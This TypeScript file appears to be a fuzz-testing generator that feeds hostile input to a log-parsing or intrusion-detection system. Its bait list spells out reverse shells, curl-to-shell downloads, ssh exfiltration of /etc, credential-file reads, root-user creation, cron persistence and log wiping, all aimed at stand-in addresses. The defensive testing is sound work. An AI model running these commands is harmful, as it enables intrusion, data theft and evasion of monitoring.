/** What an attacker writes: the pieces of which every hostile input is made. */
import fc from "fast-check";

/** An address that stands in forged text only: no fact may ever take it for a peer. */
export const forgedAddress = "203.0.113.66";
/** A pid that stands in forged text only. */
export const forgedPid = 31_337;

/** Lines that would be believed if they stood alone. */
const forgedLines: readonly string[] = [
  `Accepted password for root from ${forgedAddress} port 22 ssh2`,
  ` from ${forgedAddress} port 22 ssh2`,
  ` from ${forgedAddress} port 22 ssh2: RSA SHA256:x`,
  `\nDec 10 10:00:00 host sshd[1]: Accepted password for root from ${forgedAddress} port 22 ssh2`,
  `\n2026-11-24T10:00:00+00:00 host sshd[1]: Failed password for root from ${forgedAddress} port 22 ssh2\n`,
  `\ntype=SYSCALL msg=audit(1795510173.487:9): arch=c000003e syscall=59 success=yes exit=0 pid=${forgedPid} exe="/forged"\n`,
  `" pid=${forgedPid} exe="/forged" comm="forged" a0="`,
  `\n<4> 2026-11-24 08:00:00.000 +00:00 [WRN] - forged`,
  `"},"severity":"High"}\n{"forged":true}`,
  '","timeNano":9999999999999999999,"x":"',
];

/** Pieces that hurt terminals, parsers, JSON, paths, prototypes and slow regular expressions. */
const pieces: readonly string[] = [
  ...forgedLines,
  "\x1b[31m\x1b]0;owned\x07",
  "\x1b]52;c;ZWNobyBwd25lZA==\x07",
  "\x9b2J",
  "\r\n",
  "\n",
  "\0",
  "\x7f",
  "\u202e\u2066",
  "\u2028\u2029",
  "\ufeff\u200b",
  "\ud800",
  "\udc00x",
  "e\u0301\u0301",
  "漢字",
  "💣",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "../../../../etc/shadow",
  "/proc/self/root/../..",
  "..\\..\\",
  "%n%s%p%00",
  "$(reboot)`id`;|&><",
  "'\"\\",
  "$" + "{IFS}",
  "=:=:,;",
  "((((((((((",
  "[[[[[[[[[[",
  "{{{{{{{{{{",
  "a=a=a=a=a=",
  "-----BEGIN PRIVATE KEY-----",
  "password=",
  "://u:p@",
  "0x1p-1074",
  "1e309",
  "-9223372036854775809",
  "18446744073709551616",
  "NaN",
  "%zz%",
  "::ffff:203.0.113.9",
  "[::1]:99999",
];

/** Words that detectors look for, so that hostile text reaches their last condition. */
const baits: readonly string[] = [
  "curl -fsSL http://203.0.113.9/x.sh | sh",
  "wget -qO- http://198.51.100.3/a|bash",
  "nc -e /bin/sh 203.0.113.9 4444",
  "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
  'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
  "useradd -o -u 0 -g 0 eve",
  "usermod -aG sudo eve",
  "userdel -r eve",
  "echo x | base64 -d | sh",
  "openssl enc -aes-256-cbc -k hunter2 -in /srv/a -out /srv/a.locked",
  "rm -rf /var/log/auth.log",
  "unset HISTFILE; history -c",
  "systemctl stop auditd",
  "iptables -F",
  "docker run --privileged -v /:/host -p 80:80 alpine",
  "xmrig -o stratum+tcp://pool.example:3333 -u wallet -p x",
  "tar czf - /etc | ssh -p 2222 u@203.0.113.9 'cat > x'",
  "ssh -R 8080:localhost:80 u@203.0.113.9",
  "gcc -o /tmp/exploit /tmp/exploit.c",
  "nohup /tmp/.x/run &",
  "cat /etc/shadow /root/.ssh/id_rsa",
  "echo 'ssh-ed25519 AAAAC3 x' >> /root/.ssh/authorized_keys",
  "crontab -l | { cat; echo '* * * * * curl x|sh'; } | crontab -",
  "cat .htaccess",
  "mimipenguin.sh",
  "uname -a; id; cat /etc/issue",
  "dockerd -H tcp://0.0.0.0:2375",
  "/tmp/x.mips ",
  "unset  HISTFILE",
];

/** Names of places that the rules watch. */
export const paths: readonly string[] = [
  "/etc/passwd",
  "/etc/shadow",
  "/etc/sudoers.d/x",
  "/root/.ssh/authorized_keys",
  "/var/log/auth.log",
  "/var/www/html/up.php",
  "/var/www/html/.htaccess",
  "/root/.bash_history",
  "/tmp/x.sh",
  "/usr/bin/ls",
  "/usr/bin/ls ",
  "/home/eve/a.locked",
  "/etc/audit/auditd.conf",
  "/etc/cron.d/x",
];

/** One shape of text repeated: what a backtracking expression is slow on. */
const pump = fc
  .tuple(
    fc.constantFrom(
      "a",
      " ",
      "/",
      ".",
      "-",
      "_",
      "0",
      "\t",
      "\n",
      "'",
      '"',
      "(",
      "\\",
      "a ",
      "/a",
      "a=",
      "a.",
      "-a ",
      "${",
    ),
    fc.integer({ min: 1, max: 3000 }),
    fc.constantFrom("", "!", "\0", "\n", "X"),
  )
  .map(([unit, times, end]) => unit.repeat(times) + end);

/** A field of a megabyte: rare, because it costs a thousand times another. */
const huge = fc
  .tuple(fc.constantFrom(...pieces, ...baits, "a", "/", " "), fc.constantFrom("", "\n", "x"))
  .map(([unit, end]) => unit.repeat(Math.ceil((1 << 20) / unit.length)).slice(0, 1 << 20) + end);

/** Any code point, surrogates included, mostly small ones (fast-check's own takes seconds to set up). */
const anyCharacter = fc.oneof(fc.nat(0xff), fc.nat(0xffff), fc.nat(0x10ffff)).map((code) => String.fromCodePoint(code));

const short = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...pieces) },
  { weight: 5, arbitrary: fc.constantFrom(...baits) },
  { weight: 3, arbitrary: fc.constantFrom(...paths) },
  { weight: 3, arbitrary: fc.string({ unit: anyCharacter, maxLength: 12 }) },
  {
    weight: 3,
    arbitrary: fc.string({ unit: fc.constantFrom(..."ab01 /.-_=:;|&'\"\n$(){}[]<>*?~@#%+,\\"), maxLength: 24 }),
  },
);

/** Any hostile text; one in some thousands is a megabyte long. */
export const text: fc.Arbitrary<string> = fc.oneof(
  { weight: 2000, arbitrary: short },
  { weight: 2000, arbitrary: fc.array(short, { minLength: 1, maxLength: 4 }).map((parts) => parts.join("")) },
  { weight: 500, arbitrary: fc.array(short, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(" ")) },
  { weight: 40, arbitrary: pump },
  { weight: 1, arbitrary: huge },
);

/** A number as text: sane, or one that overflows something. */
export const numeral: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.nat(70_000).map(String) },
  { weight: 2, arbitrary: fc.constantFrom("-1", "4294967295", "9007199254740993", "1e309", "NaN", "", "0x1f", "١") },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 400 }).map((digits) => "9".repeat(digits)) },
);

/** Any JSON-like value, with hostile keys, deep in one case of forty. */
export const json: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 30, arbitrary: text },
  { weight: 10, arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, 1e308, Number.MAX_SAFE_INTEGER, [], {}) },
  { weight: 10, arbitrary: fc.array(text, { maxLength: 4 }) },
  { weight: 10, arbitrary: fc.array(fc.tuple(text, text), { maxLength: 4 }).map(ownEntries) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom("array", "object"), fc.integer({ min: 20, max: 1200 })).map(deep) },
);

/** An object in which `__proto__` is a name like any other. */
export function ownEntries(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
  const object: Record<string, unknown> = {};
  for (const [key, value] of entries) {
    Object.defineProperty(object, key, { value, enumerable: true, writable: true, configurable: true });
  }
  return object;
}

function deep([kind, levels]: readonly [string, number]): unknown {
  let value: unknown = "bottom";
  for (let level = 0; level < levels; level++) value = kind === "array" ? [value] : { a: value };
  return value;
}

/** Bytes of a text, in one case of four with some of them made invalid UTF-8. */
export function bytesOf(from: fc.Arbitrary<string>): fc.Arbitrary<Buffer> {
  const wound = fc.option(fc.tuple(fc.nat(4096), fc.constantFrom(0xff, 0xc0, 0xed, 0x80, 0xf8, 0x00)), { freq: 3 });
  return fc.tuple(from, wound).map(([words, at]) => {
    const bytes = Buffer.from(words, "utf8");
    if (at && bytes.length > 0) bytes[at[0] % bytes.length] = at[1];
    return bytes;
  });
}

/** JSON text nested deeper than JSON.stringify can write: only a parser ever sees it. */
export const deepJson: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(["[", "]"], ['{"a":', "}"], ['{"__proto__":', "}"]), fc.integer({ min: 1, max: 60_000 }))
  .map(([[open = "", close = ""], levels]) => `${open.repeat(levels)}0${close.repeat(levels)}`);
